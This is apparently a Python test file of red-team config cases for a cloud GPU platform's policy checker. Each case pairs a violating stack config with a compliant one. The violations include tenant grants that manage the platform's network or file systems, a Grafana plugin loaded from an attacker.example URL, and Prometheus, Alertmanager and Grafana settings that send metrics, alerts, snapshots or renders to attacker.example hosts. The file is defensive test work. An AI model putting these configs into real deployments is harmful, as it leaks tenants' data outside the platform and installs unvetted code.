"""Stack-config variants that undo the platform's rules at run time or send data out: a tenant's grant that changes
the platform's network or file systems, Grafana plugins from a URL or without a version, and Prometheus or
Alertmanager sending every tenant's metrics and alerts outside the platform."""
from __future__ import annotations

from tests.policies.redteam.configs import CONFIG_CASES

STACK = "ocid1.compartment.oc1..aaaaaaaa4m5xq2nq7d3jb6rkf2lq3v5wz7y6c4h2p8t1s9e0u3i5o7a2dfev"
TRAINER = "oke-rdma:tenants.research.serviceAccounts.trainer.allow"
KPS = "oke-rdma:platform.kubePrometheusStack"


def _grant(text: str):
    def edit(doc):
        doc["config"]["oke-rdma:tenants"]["research"]["serviceAccounts"]["trainer"]["allow"].append(text)
    return edit


def _values(values: dict):
    def edit(doc):
        doc["config"]["oke-rdma:platform"]["kubePrometheusStack"]["values"] = values
    return edit


_N = 2  # dev's trainer lists two grants; the appended one is allow[2]
CONFIG_CASES["workload_manages_the_platforms_virtual_network"] = (
    "network", f"{TRAINER}[{_N}]", _grant(f"manage virtual-network-family in compartment id {STACK}"),
    _grant(f"read virtual-network-family in compartment id {STACK}"))
CONFIG_CASES["workload_manages_the_platforms_file_systems"] = (
    "data", f"{TRAINER}[{_N}]", _grant(f"manage file-family in compartment id {STACK}"),
    _grant(f"read file-family in compartment id {STACK}"))
CONFIG_CASES["grafana_plugin_from_a_url"] = (
    "supply-chain", f"{KPS}.values.grafana.plugins[0]",
    _values({"grafana": {"plugins": ["https://plugins.attacker.example/panel.zip;evil-panel"]}}),
    _values({"grafana": {"plugins": []}}))
CONFIG_CASES["grafana_plugin_without_a_version"] = (
    "supply-chain", f"{KPS}.values.grafana.plugins[0]", _values({"grafana": {"plugins": ["grafana-piechart-panel"]}}),
    _values({"grafana": {"plugins": ["grafana-piechart-panel@1.6.4"]}}))
CONFIG_CASES["prometheus_remote_write_outside"] = (
    "data", f"{KPS}.values.prometheus.prometheusSpec.remoteWrite[0].url",
    _values({"prometheus": {"prometheusSpec": {"remoteWrite": [{"url": "https://metrics.attacker.example/write"}]}}}),
    _values({"prometheus": {"prometheusSpec": {"remoteWrite": [
        {"url": "http://mimir.monitoring.svc.cluster.local/api/v1/push"}]}}}))
CONFIG_CASES["alertmanager_webhook_outside"] = (
    "data", f"{KPS}.values.alertmanager.config.receivers[0].webhook_configs[0].url",
    _values({"alertmanager": {"config": {"receivers": [
        {"name": "x", "webhook_configs": [{"url": "https://hooks.attacker.example/a"}]}]}}}),
    _values({"alertmanager": {"config": {"receivers": [{"name": "x"}]}}}))


def _slack_via_global(url: str):
    return _values({"alertmanager": {"config": {"global": {"slack_api_url": url}, "route": {"receiver": "x"},
                                                "receivers": [{"name": "x", "slack_configs": [{"channel": "#gpu"}]}]}}})


CONFIG_CASES["alertmanager_global_slack_url_outside"] = (
    "data", f"{KPS}.values.alertmanager.config.global.slack_api_url",
    _slack_via_global("https://hooks.slack.attacker.example/services/T0/B0/X"),
    _slack_via_global("http://alert-relay.monitoring.svc:8080/slack"))
CONFIG_CASES["alertmanager_pagerduty_receiver_uses_the_built_in_endpoint"] = (
    "data", f"{KPS}.values.alertmanager.config.receivers[0].pagerduty_configs[0]",
    _values({"alertmanager": {"config": {"route": {"receiver": "x"}, "receivers": [
        {"name": "x", "pagerduty_configs": [{"routing_key": "abc"}]}]}}}),
    _values({"alertmanager": {"config": {"route": {"receiver": "x"}, "receivers": [
        {"name": "x", "pagerduty_configs": [{"routing_key": "abc", "url": "http://pd-relay.monitoring.svc/"}]}]}}}))


def _snapshots(on: bool):
    return _values({"grafana": {"grafana.ini": {"snapshots": {
        "external_enabled": on, "external_snapshot_url": "https://snapshots.attacker.example"}}}})


CONFIG_CASES["grafana_external_snapshots_outside"] = (
    "data", f'{KPS}.values.grafana["grafana.ini"].snapshots.external_enabled', _snapshots(True), _snapshots(False))
CONFIG_CASES["grafana_renders_dashboards_on_an_outside_server"] = (
    "data", f'{KPS}.values.grafana["grafana.ini"].rendering.server_url',
    _values({"grafana": {"grafana.ini": {"rendering": {"server_url": "https://render.attacker.example/render"}}}}),
    _values({"grafana": {"grafana.ini": {"rendering": {
        "server_url": "http://grafana-image-renderer.monitoring.svc:8081/render"}}}}))
